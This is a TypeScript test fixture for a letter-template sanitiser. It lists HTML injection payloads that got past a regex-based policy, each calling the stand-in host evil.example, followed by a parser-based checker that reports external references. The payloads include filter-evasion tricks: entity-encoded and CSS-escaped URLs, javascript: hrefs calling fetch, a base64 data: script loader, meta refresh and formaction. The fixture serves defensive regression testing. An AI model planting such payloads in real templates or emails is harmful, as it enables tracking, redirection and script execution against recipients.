import { parseDocument } from 'htmlparser2';
import type { ChildNode, Element } from 'domhandler';

/**
 * Issue 10 #7: the ways a letter template reached outside the letter while the policy read template
 * source with regular expressions. Each is planted into a template; every one names evil.example,
 * so a rendered letter that still mentions that host has kept some of it.
 */
export interface Attack {
  name: string;
  /** Where it goes: the layout's <head>, or a letter's body. */
  where: 'head' | 'body';
  html: string;
}

export const ATTACKS: readonly Attack[] = [
  { name: 'meta refresh with ">" inside its quoted content', where: 'head', html: '<meta content="0; url=https://evil.example/?next=>" http-equiv="refresh">' },
  { name: 'meta refresh in the body', where: 'body', html: '<p>Spoštovani <meta http-equiv="refresh" content="1;URL=\'https://evil.example/\'"></p>' },
  { name: 'srcset (img and picture source)', where: 'body', html: '<img alt="" srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x"><picture><source srcset="https://evil.example/c.png"></picture>' },
  { name: 'backslash URLs', where: 'body', html: '<a href="\\\\evil.example/x">povezava</a><img src="\\\\evil.example/y.png"><a href="/\\evil.example/z">z</a>' },
  { name: 'protocol-relative //evil', where: 'body', html: '<a href="//evil.example/x">povezava</a><img src=//evil.example/y.png>' },
  { name: 'entity-encoded https', where: 'body', html: '<a href="&#104;ttps://evil.example/">klik</a><a href="&#x68;&#x74;tps&colon;//evil.example/">klik</a><img src="&#104;ttps://evil.example/p.png">' },
  { name: 'CSS escapes \\75 rl( in a style attribute and in <style>', where: 'body', html: '<p style="background:\\75 rl(https://evil.example/x.png); color: #111">x</p><style>p { background-image: \\75 \\72 \\6c (https://evil.example/y.png) }</style>' },
  { name: '@import', where: 'head', html: '<style>@import url(https://evil.example/a.css); @import "https://evil.example/b.css"; h1 { color: #222 }</style>' },
  { name: '<base href>', where: 'head', html: '<base href="https://evil.example/">' },
  { name: '<link>', where: 'head', html: '<link rel="stylesheet" href="https://evil.example/s.css"><link rel="prefetch" href="//evil.example/p">' },
  { name: '<iframe>, <object>, <embed>', where: 'body', html: '<iframe src="https://evil.example/f"></iframe><object data="https://evil.example/o.swf"><param name="movie" value="https://evil.example/m"></object><embed src="https://evil.example/e">' },
  { name: '<svg><use href>', where: 'body', html: '<svg><use href="https://evil.example/s.svg#a"></use><use xlink:href="https://evil.example/t.svg#b"/><image href="https://evil.example/i.png"/></svg>' },
  { name: '<img src=https:>', where: 'body', html: '<img src=https://evil.example/pixel.png><img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'><image href=\'https://evil.example/q\'/></svg>">' },
  { name: 'formaction', where: 'body', html: '<form action="https://evil.example/a"><button formaction="https://evil.example/f">Pošlji</button><input type="image" src="https://evil.example/i.png" formaction="https://evil.example/g"></form>' },
  { name: 'javascript: and data: hrefs', where: 'body', html: '<a href="javascript:fetch(\'https://evil.example/\')">a</a><a href="java&#x09;script:location=\'//evil.example\'">b</a><a href="data:text/html;base64,PHNjcmlwdCBzcmM9aHR0cHM6Ly9ldmlsLmV4YW1wbGU+">c</a><a href=" JaVaScRiPt:void(\'evil.example\')">d</a>' },
  { name: '<style> with url()', where: 'head', html: '<style>body { background: url("https://evil.example/bg.png") } .x{list-style-image:url(//evil.example/l.png)} p { font-family: "Roboto"; background: image-set("https://evil.example/i.png" 1x) }</style>' },
  { name: 'style attribute with url() and expression()', where: 'body', html: '<div style="background-image: url(\'https://evil.example/d.png\'); width: expression(fetch(\'//evil.example\'))">d</div>' },
];

const URL_ATTRIBUTES = new Set(['href', 'src', 'srcset', 'action', 'formaction', 'data', 'poster', 'background', 'xlink:href', 'cite', 'ping', 'manifest', 'longdesc', 'lowsrc', 'dynsrc', 'content', 'value']);
const LOADING_ELEMENTS = new Set(['script', 'iframe', 'frame', 'object', 'embed', 'applet', 'img', 'image', 'picture', 'source', 'svg', 'use', 'link', 'base', 'form', 'input', 'button', 'video', 'audio', 'track', 'param']);
const CSS_REFERENCE = /url\s*\(|@import|\\|image-set|expression|src\s*\(|-moz-binding|behavior/i;

const isElement = (n: ChildNode): n is Element => n.type === 'tag' || n.type === 'script' || n.type === 'style';

/**
 * Every way this HTML could load or lead to something outside it, as a browser or mail reader reads
 * it: loading elements, URL attributes other than mailto: links, meta other than charset, CSS that
 * names an address, event attributes, and any mention of evil.example at all.
 */
export function externalReferences(html: string): string[] {
  const found: string[] = [];
  if (/evil\.example/i.test(html)) found.push('mentions evil.example');
  const walk = (nodes: ChildNode[]) => {
    for (const n of nodes) {
      if (!isElement(n)) continue;
      const name = n.name.toLowerCase();
      if (LOADING_ELEMENTS.has(name)) found.push(`<${name}>`);
      if (name === 'meta' && Object.keys(n.attribs).some((k) => k !== 'charset')) found.push(`<meta ${Object.keys(n.attribs).join(' ')}>`);
      if (name === 'style') {
        const css = n.children.map((c) => (c.type === 'text' ? c.data : '')).join('');
        if (CSS_REFERENCE.test(css)) found.push(`<style>${css}</style>`);
      }
      for (const [key, value] of Object.entries(n.attribs)) {
        if (key.startsWith('on')) found.push(`${name} ${key}`);
        if (key === 'style' && CSS_REFERENCE.test(value)) found.push(`${name} style="${value}"`);
        if (URL_ATTRIBUTES.has(key) && !(key === 'href' && /^mailto:/i.test(value))) found.push(`${name} ${key}="${value}"`);
      }
      walk(n.children);
    }
  };
  walk(parseDocument(html, { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true }).children);
  return found;
}
